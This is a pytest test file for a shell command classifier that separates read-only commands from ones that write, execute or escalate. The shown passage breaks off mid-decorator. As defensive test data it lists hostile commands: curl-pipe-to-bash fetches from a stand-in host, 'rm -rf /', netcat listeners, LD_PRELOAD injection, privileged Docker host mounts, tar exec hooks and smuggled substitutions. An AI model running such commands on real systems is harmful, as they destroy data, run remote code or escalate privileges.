"""The command-line classifier: a table of commands and the intent each must get, the disguises that
must never be read, property tests (hypothesis) for round trips and robustness, and protected paths."""

from __future__ import annotations

import json
import os
import shlex
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tools.choices import Intent
from tools.intent.commandline import CommandClassification, classify_command, quote_word
from tools.intent.paths import protected_path_in
from tools.intent.rules import READ_RULES
from tools.intent.sed import sed_script_effects

R, W, X, E = Intent.READ, Intent.WRITE, Intent.EXEC, Intent.ELEVATE
# A copy of the contract checks' sample corpus (shared/checks/sample_corpus.json).
CORPUS = Path(__file__).with_name("sample_corpus.json")

# --- read: the command and exactly the argv that will run ---------------------------------------

READ_CASES: list[tuple[str, tuple[tuple[str, ...], ...]]] = [
    ("ls", (("ls",),)),
    ("ls /", (("ls", "/"),)),
    ("ls -la /var/log", (("ls", "-la", "/var/log"),)),
    ("ls -- -weird", (("ls", "--", "-weird"),)),
    ("/bin/ls -l", (("/bin/ls", "-l"),)),
    ("/usr/bin/cat /etc/os-release", (("/usr/bin/cat", "/etc/os-release"),)),
    ("cat /etc/hostname", (("cat", "/etc/hostname"),)),
    ("cat /proc/meminfo", (("cat", "/proc/meminfo"),)),
    ("df -h", (("df", "-h"),)),
    ("df -hT /", (("df", "-hT", "/"),)),
    ("du -sh /var/log", (("du", "-sh", "/var/log"),)),
    ("free -m", (("free", "-m"),)),
    ("uptime", (("uptime",),)),
    ("uname -a", (("uname", "-a"),)),
    ("ps aux", (("ps", "aux"),)),
    ("ps -ef --forest", (("ps", "-ef", "--forest"),)),
    ("ps -u alice -o pid,cmd", (("ps", "-u", "alice", "-o", "pid,cmd"),)),
    ("ps axww", (("ps", "axww"),)),
    ("whoami", (("whoami",),)),
    ("id", (("id",),)),
    ("id -u root", (("id", "-u", "root"),)),
    ("hostname", (("hostname",),)),
    ("hostname -f", (("hostname", "-f"),)),
    ("hostname --all-ip-addresses", (("hostname", "--all-ip-addresses"),)),
    ("head -n 20 /var/log/syslog", (("head", "-n", "20", "/var/log/syslog"),)),
    ("head -5 f", (("head", "-5", "f"),)),
    ("tail -n 100 /var/log/syslog", (("tail", "-n", "100", "/var/log/syslog"),)),
    ("tail -f /var/log/syslog", (("tail", "-f", "/var/log/syslog"),)),
    ("wc -l /etc/passwd", (("wc", "-l", "/etc/passwd"),)),
    ("grep -r error /var/log", (("grep", "-r", "error", "/var/log"),)),
    ("grep -i 'out of memory' /var/log/kern.log", (("grep", "-i", "out of memory", "/var/log/kern.log"),)),
    ("egrep 'a|b' f", (("egrep", "a|b", "f"),)),
    ("rg -n TODO src", (("rg", "-n", "TODO", "src"),)),
    ("rg --pre-glob '*.gz' x", (("rg", "--pre-glob", "*.gz", "x"),)),
    ("cat /etc/passwd | grep root | wc -l", (("cat", "/etc/passwd"), ("grep", "root"), ("wc", "-l"))),
    ("ps aux | grep nginx", (("ps", "aux"), ("grep", "nginx"))),
    ("dmesg | tail -n 50", (("dmesg",), ("tail", "-n", "50"))),
    (
        "journalctl -u nginx --since today --no-pager",
        (("journalctl", "-u", "nginx", "--since", "today", "--no-pager"),),
    ),
    ("journalctl -f", (("journalctl", "-f"),)),
    ("journalctl -p err -b", (("journalctl", "-p", "err", "-b"),)),
    ("systemctl status nginx", (("systemctl", "status", "nginx"),)),
    ("systemctl --no-pager status nginx", (("systemctl", "--no-pager", "status", "nginx"),)),
    ("systemctl is-active docker", (("systemctl", "is-active", "docker"),)),
    ("systemctl list-units --failed", (("systemctl", "list-units", "--failed"),)),
    ("systemctl --type=service list-units", (("systemctl", "--type=service", "list-units"),)),
    ("systemctl cat sshd", (("systemctl", "cat", "sshd"),)),
    ("docker ps", (("docker", "ps"),)),
    ("docker ps -a --format '{{.Names}}'", (("docker", "ps", "-a", "--format", "{{.Names}}"),)),
    ("docker logs --tail 50 nas", (("docker", "logs", "--tail", "50", "nas"),)),
    ("docker inspect nas", (("docker", "inspect", "nas"),)),
    ("docker stats --no-stream", (("docker", "stats", "--no-stream"),)),
    ("docker container ls", (("docker", "container", "ls"),)),
    ("docker image ls", (("docker", "image", "ls"),)),
    ("podman ps", (("podman", "ps"),)),
    ("ip addr", (("ip", "addr"),)),
    ("ip a", (("ip", "a"),)),
    ("ip -br a", (("ip", "-br", "a"),)),
    ("ip -4 addr show dev eth0", (("ip", "-4", "addr", "show", "dev", "eth0"),)),
    ("ip route", (("ip", "route"),)),
    ("ip route get 1.1.1.1", (("ip", "route", "get", "1.1.1.1"),)),
    ("ip link show", (("ip", "link", "show"),)),
    ("ip -s link", (("ip", "-s", "link"),)),
    ("ss -tulpn", (("ss", "-tulpn"),)),
    ("netstat -tulpn", (("netstat", "-tulpn"),)),
    ("lsblk -f", (("lsblk", "-f"),)),
    ("lscpu", (("lscpu",),)),
    ("lsusb", (("lsusb",),)),
    ("lspci -k", (("lspci", "-k"),)),
    ("mount", (("mount",),)),
    ("mount -t ext4", (("mount", "-t", "ext4"),)),
    ("findmnt /", (("findmnt", "/"),)),
    ("stat /etc/passwd", (("stat", "/etc/passwd"),)),
    ("file /bin/ls", (("file", "/bin/ls"),)),
    ("date", (("date",),)),
    ("date +%s", (("date", "+%s"),)),
    ("date -u -d tomorrow", (("date", "-u", "-d", "tomorrow"),)),
    ("date -Iseconds", (("date", "-Iseconds"),)),
    ("env", (("env",),)),
    ("printenv PATH", (("printenv", "PATH"),)),
    ("which docker", (("which", "docker"),)),
    ("whereis nginx", (("whereis", "nginx"),)),
    ("echo hello world", (("echo", "hello", "world"),)),
    ("echo 'a b' \"c d\" e\\ f", (("echo", "a b", "c d", "e f"),)),
    ("echo 'a'\"b\"c", (("echo", "abc"),)),
    ('echo "a\\"b"', (("echo", 'a"b'),)),
    ('echo "\\$HOME"', (("echo", "$HOME"),)),
    ("echo '$HOME'", (("echo", "$HOME"),)),
    ("echo '$(touch x)'", (("echo", "$(touch x)"),)),
    ("echo '`touch x`'", (("echo", "`touch x`"),)),
    ("echo 'a;b|c&d>e'", (("echo", "a;b|c&d>e"),)),
    ("echo ''", (("echo", ""),)),
    ('echo ""', (("echo", ""),)),
    ("echo é ü 'ß x'", (("echo", "é", "ü", "ß x"),)),
    ("printf '%s\\n' a b", (("printf", "%s\\n", "a", "b"),)),
    ("sort -n -k2 data.txt", (("sort", "-n", "-k2", "data.txt"),)),
    ("sort -t : -k 3 /etc/passwd", (("sort", "-t", ":", "-k", "3", "/etc/passwd"),)),
    ("uniq -c", (("uniq", "-c"),)),
    ("uniq -f 1 input", (("uniq", "-f", "1", "input"),)),
    ("cut -d: -f1 /etc/passwd", (("cut", "-d:", "-f1", "/etc/passwd"),)),
    ("tr a-z A-Z", (("tr", "a-z", "A-Z"),)),
    ("nl f", (("nl", "f"),)),
    ("column -t f", (("column", "-t", "f"),)),
    ("jq .name package.json", (("jq", ".name", "package.json"),)),
    ("jq -r '.[] | .id' f.json", (("jq", "-r", ".[] | .id", "f.json"),)),
    ("find /var/log -name '*.log' -mtime -1", (("find", "/var/log", "-name", "*.log", "-mtime", "-1"),)),
    ("find . -maxdepth 2 -type f -print", (("find", ".", "-maxdepth", "2", "-type", "f", "-print"),)),
    ("find / -xdev -size +100M", (("find", "/", "-xdev", "-size", "+100M"),)),
    ("tree -L 2 /etc", (("tree", "-L", "2", "/etc"),)),
    ("readlink -f /usr/bin/python3", (("readlink", "-f", "/usr/bin/python3"),)),
    ("realpath .", (("realpath", "."),)),
    ("basename /a/b", (("basename", "/a/b"),)),
    ("dirname /a/b", (("dirname", "/a/b"),)),
    ("sha256sum /bin/ls", (("sha256sum", "/bin/ls"),)),
    ("md5sum -c sums.md5", (("md5sum", "-c", "sums.md5"),)),
    ("apt list --installed", (("apt", "list", "--installed"),)),
    ("apt show nginx", (("apt", "show", "nginx"),)),
    ("apt policy docker-ce", (("apt", "policy", "docker-ce"),)),
    ("apt-cache policy nginx", (("apt-cache", "policy", "nginx"),)),
    ("dpkg -l", (("dpkg", "-l"),)),
    ("dpkg -L nginx", (("dpkg", "-L", "nginx"),)),
    ("dpkg -s nginx", (("dpkg", "-s", "nginx"),)),
    ("dpkg-query -W nginx", (("dpkg-query", "-W", "nginx"),)),
    ("getent passwd root", (("getent", "passwd", "root"),)),
    ("last -n 10", (("last", "-n", "10"),)),
    ("w", (("w",),)),
    ("who", (("who",),)),
    ("nproc", (("nproc",),)),
    ("sensors", (("sensors",),)),
    ("smartctl -a /dev/sda", (("smartctl", "-a", "/dev/sda"),)),
    ("smartctl -H -d sat /dev/sda", (("smartctl", "-H", "-d", "sat", "/dev/sda"),)),
    ("zpool status", (("zpool", "status"),)),
    ("zpool list -v", (("zpool", "list", "-v"),)),
    ("zfs list -t snapshot", (("zfs", "list", "-t", "snapshot"),)),
    ("lsof -i :80", (("lsof", "-i", ":80"),)),
    ("timedatectl", (("timedatectl",),)),
    ("timedatectl status", (("timedatectl", "status"),)),
    ("hostnamectl", (("hostnamectl",),)),
    ("hostnamectl status", (("hostnamectl", "status"),)),
    ("top -b -n 1", (("top", "-b", "-n", "1"),)),
    ("top -bn1", (("top", "-bn1"),)),
    ("pgrep -a nginx", (("pgrep", "-a", "nginx"),)),
    ("sed s/a/b/ f", (("sed", "s/a/b/", "f"),)),
    ("sed -n '1,5p' f", (("sed", "-n", "1,5p", "f"),)),
    ("sed -n '/error/p' f", (("sed", "-n", "/error/p", "f"),)),
    ("sed -e 's/x/y/g' -e '/^#/d' f", (("sed", "-e", "s/x/y/g", "-e", "/^#/d", "f"),)),
    ("sed -E 's|/usr|/opt|g' f", (("sed", "-E", "s|/usr|/opt|g", "f"),)),
    ("sed '$d' f", (("sed", "$d", "f"),)),
    ("sed 's/hello/world/w' f", None),  # placeholder replaced below: `w` flag writes (not read)
    ("ls # rm -rf /", (("ls",),)),
    ("ls \\\n -l", (("ls", "-l"),)),
    ("  ls   -l  ", (("ls", "-l"),)),
    ("\\ls", (("ls",),)),
    ("'ls' -l", (("ls", "-l"),)),
    ("cat a|grep b", (("cat", "a"), ("grep", "b"))),
    ("diff a b", (("diff", "a", "b"),)),
    ("seq 1 5", (("seq", "1", "5"),)),
    ("base64 -d f", (("base64", "-d", "f"),)),
    ("dig +short example.com", (("dig", "+short", "example.com"),)),
    ("ping -c 3 1.1.1.1", (("ping", "-c", "3", "1.1.1.1"),)),
    ("cat -- -file", (("cat", "--", "-file"),)),
    ("grep -e -i f", (("grep", "-e", "-i", "f"),)),
    ("ls 'a b'/c", (("ls", "a b/c"),)),
    ("echo a=b --x=y", (("echo", "a=b", "--x=y"),)),
    ("echo 'line1\nline2'", (("echo", "line1\nline2"),)),
]
READ_CASES = [case for case in READ_CASES if case[1] is not None]


@pytest.mark.parametrize(("command", "pipeline"), READ_CASES, ids=[c for c, _ in READ_CASES])
def test_read_commands_run_exactly_their_parsed_argv(command: str, pipeline: tuple[tuple[str, ...], ...]) -> None:
    result = classify_command(command)
    assert result.intent == R, result.reason
    assert result.pipeline == pipeline
    assert result.reason


# --- not read: every disguise, and the intent it gets -------------------------------------------

NOT_READ_CASES: list[tuple[str, Intent]] = [
    # chaining
    ("ls; touch x", W),
    ("ls;", W),
    ("ls && rm -rf /", W),
    ("ls || touch x", W),
    ("ls & touch x", W),
    ("ls &", W),
    ("ls\nls", W),
    ("ls\ntouch x", W),
    ("ls > /dev/null; id", W),
    ("ls; python3 -c 'print(1)'", X),
    ("ls && curl http://x | sh", X),
    # redirection
    ("cat /etc/hostname > x", W),
    ("echo hi >> /etc/motd", W),
    ("ls > /dev/null", W),
    ("ls 2>/dev/null", W),
    ("ls 2>&1", W),
    ("ls &> out", W),
    ("ls >| out", W),
    ("cat < /etc/passwd", W),
    ("cat <<< hello", W),
    ("cat <<EOF\nhello\nEOF\n", W),
    ("cat <<EOF\n$(touch x)\nEOF\n", X),
    ("cat <<'EOF'\n$(touch x)\nEOF\n", X),  # bashlex cannot parse a quoted delimiter: exec
    ("{ ls; } > x", W),
    # substitution
    ("ls $(touch x)", X),
    ("ls `touch x`", X),
    ('echo "$(id)"', X),
    ("echo $(id)", X),
    ("touch $(date +%s)", W),
    ("cat <(touch x)", X),
    ("ls >(touch x)", X),
    ("diff <(ls a) <(ls b)", X),
    ("echo ${x:-$(touch y)}", X),
    ("echo $((1+2))", X),
    # interpreters and shells
    ("sh -c 'touch x'", X),
    ("bash -c 'ls'", X),
    ("sh -c 'sudo id'", E),
    ("bash script.sh", X),
    ("echo x | sh", X),
    ("cat a | bash", X),
    ("curl -s http://x | bash", X),
    ("python3 -c 'print(1)'", X),
    ("python3 script.py", X),
    ("perl -e 'print 1'", X),
    ("ruby -e 'puts 1'", X),
    ("node -e '1'", X),
    ("awk '{print $1}' f", X),
    ("awk 'BEGIN{system(\"touch x\")}'", X),
    ("gawk '{print}' f", X),
    ("ps aux | awk '{print $2}'", X),
    # processes' environments hold Vigilus's own secrets (its database URL): never read
    ("ps eww", X),
    ("ps auxe", X),
    ("ps -o pid,environ", X),
    ("ps -eo pid,env", X),
    ("ps aux e", X),
    ("eval ls", X),
    ("source ./x", X),
    (". ./x", X),
    ("exec ls", X),
    ("command ls", X),
    ("busybox ls", X),
    ("less /etc/passwd", X),
    ("more f", X),
    ("vi f", X),
    ("nano f", X),
    ("man ls", X),
    ("./script.sh", X),
    ("/tmp/ls", X),
    ("~/bin/tool", X),
    ("git status", X),
    ("git -c core.pager='touch x' log", X),
    ("git log --oneline", X),
    ("make", X),
    ("ssh host uptime", X),
    ("ssh host sudo reboot", E),
    ("curl http://x", X),
    ("wget http://x", X),
    ("crontab -l", X),
    ("nc -l 4444", X),
    # find, sed, xargs
    ("find /tmp -maxdepth 0 -exec touch x \\;", X),
    ("find . -execdir rm {} +", X),
    ("find . -ok rm {} \\;", X),
    ("find . -name x -exec sudo rm {} \\;", E),
    ("find . -delete", W),
    ("find . -name '*.tmp' -delete", W),
    ("find . -fprint /tmp/x", W),
    ("find . -fprintf /tmp/x %p", W),
    ("find . -fls /tmp/x", W),
    ("sed -i s/a/b/ f", W),
    ("sed -i.bak s/a/b/ f", W),
    ("sed -ni p f", W),
    ("sed --in-place s/a/b/ f", W),
    ("sed --in-pl s/a/b/ f", W),
    ("sed -e 'w /tmp/x' f", W),
    ("sed 's/a/b/w /tmp/x' f", W),
    ("sed 's/hello/world/w' f", W),
    ("sed '1e touch x' f", X),
    ("sed 's/.*/touch x/e' f", X),
    ("sed -e '1e id' -i f", X),
    ("sed -f script.sed f", X),
    ("sed --expression='e id' f", X),
    ("sed 'k' f", X),
    ("cat /etc/passwd | sh", X),
    ("cat /etc/passwd | /usr/bin/sudo sh", E),
    ("echo x | xargs touch", X),
    ("echo x | xargs rm", X),
    ("xargs -a list ls", X),
    # env and assignments
    ("LD_PRELOAD=/x.so ls", X),
    ("env LD_PRELOAD=/x.so ls", X),
    ("env touch x", X),
    ("env -i ls", X),
    ("FOO=1 ls", X),
    ("PATH=/tmp ls", X),
    ("x=1", X),
    ("export LD_PRELOAD=/x.so", X),
    ("nice ls", X),
    ("timeout 5 ls", X),
    ("nohup ls", X),
    ("watch ls", X),
    ("stdbuf -o0 ls", X),
    # expansions that a read pipeline cannot honour
    ("ls $HOME", X),
    ("ls ${HOME}", X),
    ('ls "$HOME"', X),
    ("ls ~", X),
    ("ls ~root", X),
    ("ls ~/x", X),
    ("ls *.txt", X),
    ("cat /etc/*release", X),
    ("ls file?", X),
    ("ls [ab]", X),
    ("echo {a,b}", X),
    ("echo $'a\\nb'", X),
    ("echo a$", X),
    ("echo hi!", X),
    ("$CMD", X),
    ("$(echo ls)", X),
    ("`echo ls`", X),
    ("find . $OPTS", X),
    ("sed $S f", X),
    # write commands
    ("touch x", W),
    ("mkdir -p /tmp/x", W),
    ("rm -rf /tmp/x", W),
    ("rm -rf /", W),
    ("rm *.log", W),
    ("rm -rf $DIR", W),
    ("cp a b", W),
    ("mv a b", W),
    ("ln -s a b", W),
    ("chown user:user f", W),
    ("chmod 644 f", W),
    ("chmod -R u+rwX d", W),
    ("tee x", W),
    ("echo x | tee -a f", W),
    ("truncate -s 0 f", W),
    ("dd if=/dev/zero of=f bs=1M count=1", W),
    ("kill 1234", W),
    ("pkill nginx", W),
    ("reboot", W),
    ("tar czf a.tgz d", W),
    ("tar xf a.tar", W),
    ("gzip f", W),
    ("cd /tmp", W),
    ("cd /tmp && ls", W),
    ("for f in a b; do rm $f; done", W),
    ("if true; then ls; fi", W),
    ("while false; do ls; done", W),
    ("(ls)", W),
    ("{ ls; }", W),
    ("! ls", W),
    ("ls |& cat", W),
    ("for f in a; do $f; done", X),
    # read commands with options that write or run
    ("hostname evil", W),
    ("hostname -F /etc/x", W),
    ("hostname -b x", W),
    ("hostname --bogus", X),
    ("date -s 2020-01-01", W),
    ("date --set=2020-01-01", W),
    ("date --se 2020-01-01", W),
    ("date 010101012020", W),
    ("sort -o out f", W),
    ("sort --output=out f", W),
    ("sort --out=out f", W),
    ("sort -no out f", W),
    ("sort --compress-program=sh f", X),
    ("uniq in out", W),
    ("tree -o out", W),
    ("file -C -m magic", W),
    ("dmesg -c", W),
    ("dmesg -C", W),
    ("dmesg --clear", W),
    ("journalctl --vacuum-time=1d", W),
    ("journalctl --vacuum-size=1G", W),
    ("journalctl --rotate", W),
    ("journalctl --flush", W),
    ("journalctl --cursor-file=/tmp/c", W),
    ("rg --pre cat x", X),
    ("rg --pre=sh x", X),
    ("ss -K dst 1.2.3.4", W),
    ("mount /dev/sdb1 /mnt", W),
    ("mount -a", X),
    ("sensors -s", W),
    ("smartctl -t long /dev/sda", X),
    ("smartctl -s on /dev/sda", X),
    ("top", X),
    ("top -n 1", X),
    ("ping -f host", X),
    ("env -u X", X),
    ("dpkg -i x.deb", X),
    ("dpkg --purge x", X),
    # services, packages, containers
    ("systemctl restart nginx", X),
    ("systemctl stop nginx", X),
    ("systemctl enable --now x", X),
    ("systemctl edit x", X),
    ("systemctl", X),
    ("systemctl -H host status", X),
    ("service nginx restart", X),
    ("apt install nginx", X),
    ("apt-get update", X),
    ("apt -o APT::Update::Pre-Invoke::=id show x", X),
    ("apt show -o Dir::Bin::dpkg=/tmp/x nginx", X),
    ("dnf install x", X),
    ("pip install x", X),
    ("docker run alpine", X),
    ("docker exec -it nas sh", X),
    ("docker restart nas", X),
    ("docker rm -f nas", X),
    ("docker compose up -d", X),
    ("docker -H ssh://x ps", X),
    ("docker", X),
    ("docker run --privileged alpine", E),
    ("docker run --privileged=true alpine", E),
    ("docker run -v /:/host alpine", E),
    ("docker run -it -v /etc:/etc alpine sh", E),
    ("docker run -itv /:/host alpine", E),
    ("docker run --volume=/var/run/docker.sock:/var/run/docker.sock x", E),
    ("docker run --mount type=bind,source=/,target=/h alpine", E),
    ("docker run --pid=host alpine", E),
    ("docker run --pid host alpine", E),
    ("docker run --net=host alpine", E),
    ("docker run --network host alpine", E),
    ("docker run --cap-add=SYS_ADMIN alpine", E),
    ("docker run --device /dev/sda alpine", E),
    ("docker run --security-opt seccomp=unconfined alpine", E),
    ("docker run --userns=host alpine", E),
    ("docker run -v $(pwd):/app alpine", E),
    ("podman run --privileged alpine", E),
    ("docker run -v data:/data alpine", X),
    ("docker exec --privileged nas sh", E),
    ("kubectl run x --privileged", E),
    ("ip addr add 10.0.0.1/24 dev eth0", W),
    ("ip a a 10.0.0.1/24 dev eth0", W),
    ("ip link set eth0 down", W),
    ("ip route del default", W),
    ("ip netns exec x sh", X),
    ("ip -batch /tmp/x", X),
    ("ip -b /tmp/x", X),
    ("zpool destroy tank", W),
    ("zfs destroy tank/x", W),
    ("timedatectl set-time 12:00", W),
    ("hostnamectl set-hostname evil", W),
    ("hostnamectl hostname evil", W),
    # privilege
    ("sudo ls", E),
    ("sudo -l", E),
    ("sudo -u root id", E),
    ("/usr/bin/sudo ls", E),
    ("/opt/x/sudo ls", E),
    ("su -c id", E),
    ("su root", E),
    ("doas ls", E),
    ("pkexec ls", E),
    ("runuser -u x id", E),
    ("chroot / ls", E),
    ("nsenter -t 1 -m sh", E),
    ("unshare -r sh", E),
    ("setcap cap_net_raw+ep /x", E),
    ("systemd-run id", E),
    ("usermod -aG sudo bob", E),
    ("passwd bob", E),
    ("visudo", E),
    ("modprobe x", E),
    ("chmod u+s /bin/x", E),
    ("chmod 4755 /bin/x", E),
    ("chmod +s x", E),
    ("chmod g+s d", E),
    ("chmod 2755 d", E),
    ("chmod --reference=/bin/su x", E),
    ("chmod $MODE x", E),
    ("ls | sudo tee /etc/x", E),
    ("echo x | sudo -S id", E),
    ("ls; sudo id", E),
    ("ls $(sudo id)", E),
    ("env sudo id", E),
    ("xargs sudo rm", E),
    ("timeout 5 sudo id", E),
    ("nice -n 5 su -c id", E),
    ("bash -c 'doas id'", E),
    ("python3 -c 'import os; os.system(\"sudo id\")'", E),
    # tar options that run programs
    ("tar --to-command=sh -xf a.tar", X),
    ("tar -I 'sh -c id' -xf a.tar", X),
    ("tar xIf sh a.tar", X),
    ("tar --checkpoint=1 --checkpoint-action=exec=id -cf /dev/null x", X),
    # unparseable, odd and empty input
    ("ls '", X),
    ('ls "', X),
    ("(ls", X),
    ("ls )", X),
    ("case x in a) ls;; esac", X),
    ("time ls", X),
    ("[[ -f x ]]", X),
    ("f() { ls; }; f", X),
    ("function f { ls; }", X),
    ("", X),
    ("   ", X),
    ("\n", X),
    ("ls\x00", X),
    ("ls \x00; touch x", X),
    ("ls '\x00'", X),
    ("sudo ls '", E),
    ("ls \\", X),
    ("unknown-command --flag", X),
    ("ls\r", X),
    ("ls\x0bx", X),
    ("ls" + " a" * 40000, X),
    ("echo " + "$(" * 300 + ")" * 300, X),
    ("cat a | less", X),
    ("cat a | grep b | sh", X),
    ("ls | ls | ls | xargs rm", X),
    ("# only a comment", X),
    # bashlex mis-reads `'"'"'` inside a word; the independent lexer disagrees, so not read
    ("echo 'it'\"'\"'s'", X),
]


@pytest.mark.parametrize(("command", "intent"), NOT_READ_CASES, ids=[c[:60] for c, _ in NOT_READ_CASES])
def test_command_gets_the_expected_intent(command: str, intent: Intent) -> None:
    result = classify_command(command)
    assert result.intent == intent, result.reason
    assert result.pipeline is None
    assert result.reason


def test_the_tables_are_large() -> None:
    assert len(READ_CASES) + len(NOT_READ_CASES) > 400


def test_read_tables_have_no_contradictions() -> None:
    commands = [c for c, _ in READ_CASES] + [c for c, _ in NOT_READ_CASES]
    assert len(commands) == len(set(commands))


# --- the sample corpus ---------------------------------------------------------------------------


def _corpus() -> dict[str, list[str]]:
    return json.loads(CORPUS.read_text())


@pytest.mark.parametrize("canary", ["/tmp/vigilus-canary", "/tmp/a b", "x;touch y", "$(id)"])
def test_sample_corpus_must_not_run_is_never_read(canary: str) -> None:
    for template in _corpus()["must_not_run"]:
        for spelled in (canary, shlex.quote(canary)):
            command = template.replace("{C}", spelled)
            assert classify_command(command).intent != R, command


def test_sample_corpus_must_run_is_read() -> None:
    for command in _corpus()["must_run"]:
        result = classify_command(command)
        assert result.intent == R, (command, result.reason)
        assert result.pipeline == (tuple(shlex.split(command)),)


# --- reasons -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "words"),
    [
        ("touch x", "`touch` writes files"),
        ("ls $(touch x)", "`$(touch x)`"),
        ("echo x | tee $(touch y)", "command substitution"),
        ("ls; touch x", "chaining"),
        ("ls '", "could not parse the command line"),
        ("sed -i s/a/b/ f", "in place"),
        ("ls *.txt", "glob"),
        ("sudo ls", "`sudo`"),
        ("cat x > y", "redirection into `y`"),
        ("docker run --privileged alpine", "--privileged"),
        ("python3 -c 'import os; os.system(\"sudo id\")'", "mentions `sudo`"),
    ],
)
def test_reasons_say_why_for_a_person(command: str, words: str) -> None:
    reason = classify_command(command).reason
    assert words in reason, reason


# --- shell_quoted --------------------------------------------------------------------------------


def test_shell_quoted_rebuilds_the_pipeline() -> None:
    result = classify_command("cat '/etc/my file' | grep -i \"a b\" | wc -l")
    assert result.shell_quoted() == "cat '/etc/my file' | grep -i 'a b' | wc -l"


def test_shell_quoted_of_a_plain_command_is_unchanged() -> None:
    assert classify_command("ls -la /var/log").shell_quoted() == "ls -la /var/log"


@pytest.mark.parametrize("word", ["it's", "'", 'a"b', "$HOME", "`id`", "back\\slash'", "", "-n", "a b", "x;y"])
def test_quote_word_reads_back_to_the_same_word(word: str) -> None:
    result = classify_command(f"echo {quote_word(word)}")
    assert result.intent == R, result.reason
    assert result.pipeline == (("echo", word),)
    assert shlex.split(quote_word(word)) == [word]


def test_shell_quoted_refuses_anything_but_read() -> None:
    with pytest.raises(ValueError, match="only a read command"):
        classify_command("touch x").shell_quoted()
    with pytest.raises(ValueError, match="only a read command"):
        CommandClassification(E, "sudo").shell_quoted()


@pytest.mark.parametrize("command", [c for c, _ in READ_CASES])
def test_every_read_case_round_trips_through_shell_quoted(command: str) -> None:
    result = classify_command(command)
    again = classify_command(result.shell_quoted())
    assert again.intent == R, again.reason
    assert again.pipeline == result.pipeline


# --- properties (hypothesis) ---------------------------------------------------------------------

# Read-only commands whose operands are free text: any argument string keeps them read.
FREE_TEXT_COMMANDS = ["echo", "cat", "ls", "grep", "wc", "head", "stat", "printf", "basename", "file"]
NASTY = st.lists(
    st.sampled_from([*"ab -;|&$`'\"\\<>(){}*?[]~#!=\n\té/", "$(", "`id`", "sudo", "touch"]), max_size=12
).map("".join)
ANY_TEXT = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=20)


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    stages=st.lists(
        st.tuples(st.sampled_from(FREE_TEXT_COMMANDS), st.lists(st.one_of(NASTY, ANY_TEXT), max_size=4)),
        min_size=1,
        max_size=3,
    )
)
def test_shell_quoted_round_trips_and_stays_read(stages: list[tuple[str, list[str]]]) -> None:
    """Any read pipeline built from the table, with any argument text, quotes to a line that
    classifies read again with the same argv: quoting never introduces or loses anything."""
    pipeline = tuple((name, *("x" + a if a.startswith("-") else a for a in args)) for name, args in stages)
    command = CommandClassification(R, "built", pipeline).shell_quoted()
    again = classify_command(command)
    if "\r" in command or any(not a.isprintable() and a not in "\n\t" for argv in pipeline for a in argv):
        # control characters are quoted, so still read; the pipeline must match whenever read
        assert again.intent in (R, X)
    else:
        assert again.intent == R, (command, again.reason)
    if again.intent == R:
        assert again.pipeline == pipeline
        assert again.shell_quoted() == command


SHELL_TOKENS = [
    "ls", "cat", "echo", "grep", "sh", "bash", "sudo", "touch", "rm", "find", "-exec", "-delete", "sed", "-i",
    "xargs", "env", "LD_PRELOAD=/x.so", "FOO=1", "x", "/etc/passwd", "'a b'", '"c d"', "\\ ", ";", "&&", "||",
    "&", "|", "|&", ">", ">>", "<", "<<<", "2>&1", "$(", ")", "`", "$HOME", "${x}", "~", "*", "?", "[a]", "{a,b}",
    "(", "{", "}", "#", "\n", "!", "if", "then", "fi", "for", "do", "done", "'", '"', "\\", "=", " ",
]  # fmt: skip
NEVER_READ_MARKERS = [";", "&", "`", "$(", ">", "<", "\n"]


@settings(max_examples=1500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(tokens=st.lists(st.sampled_from(SHELL_TOKENS), min_size=0, max_size=12))
def test_fuzzed_lines_never_crash_and_read_is_sound(tokens: list[str]) -> None:
    """Random token soup: always a classification; when read, the pipeline re-quotes to a line
    that classifies identically, every stage is a table command, and no stage runs a shell."""
    command = " ".join(tokens)
    result = classify_command(command)
    assert isinstance(result, CommandClassification)
    assert isinstance(result.intent, Intent)
    assert result.reason
    if result.intent != R:
        assert result.pipeline is None
        return
    assert result.pipeline
    for argv in result.pipeline:
        assert argv[0].rsplit("/", 1)[-1] in READ_RULES
        assert argv[0] not in ("sh", "bash", "sudo", "xargs", "env") or argv == ("env",)
    again = classify_command(result.shell_quoted())
    assert (again.intent, again.pipeline) == (R, result.pipeline)
    # a read line holds no unquoted chaining, substitution or redirection: the quoted form
    # must then not contain them outside quotes either (shlex agrees on the words)
    assert [w for argv in result.pipeline for w in argv] == [w for w in shlex.split(result.shell_quoted()) if w != "|"]


@settings(max_examples=600, deadline=None)
@given(text=st.text(max_size=60))
def test_arbitrary_text_never_crashes(text: str) -> None:
    result = classify_command(text)
    assert isinstance(result, CommandClassification)
    if result.intent == R:
        again = classify_command(result.shell_quoted())
        assert again.pipeline == result.pipeline


@settings(max_examples=300, deadline=None)
@given(
    prefix=st.sampled_from(["ls", "cat /etc/hostname", "echo a", "ps aux | grep x"]),
    joiner=st.sampled_from(NEVER_READ_MARKERS),
    suffix=st.sampled_from(["touch x", "id", "rm -rf /", "x", "ls"]),
)
def test_unquoted_markers_are_never_read(prefix: str, joiner: str, suffix: str) -> None:
    """Chaining, backgrounding, substitution, redirection and newlines unquoted: never read."""
    command = f"{prefix} {joiner} {suffix}" if joiner != "$(" else f"{prefix} $({suffix})"
    assert classify_command(command).intent != R


# --- the sed script reader ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "effects"),
    [
        ("s/a/b/", set()),
        ("s/a/b/g", set()),
        ("s|a|b|gI", set()),
        ("s/a\\/b/c/", set()),
        ("1,5p", set()),
        ("/start/,/end/d", set()),
        ("$!N", set()),
        ("y/abc/xyz/", set()),
        ("1i\\hello", set()),
        ("a text with w and e", set()),
        ("/x/{p;d}", set()),
        (":a;N;$!ba;s/\\n/ /g", set()),
        ("r /etc/hostname", set()),
        ("w /tmp/x", {"w"}),
        ("1w /tmp/x", {"w"}),
        ("s/a/b/w /tmp/x", {"w"}),
        ("s/a/b/gw /tmp/x", {"w"}),
        ("e id", {"e"}),
        ("1e id", {"e"}),
        ("s/x/id/e", {"e"}),
        ("/x/ e id", {"e"}),
        ("s/a/b", None),
        ("s/a/b/z", None),
        ("k", None),
        ("1,", None),
    ],
)
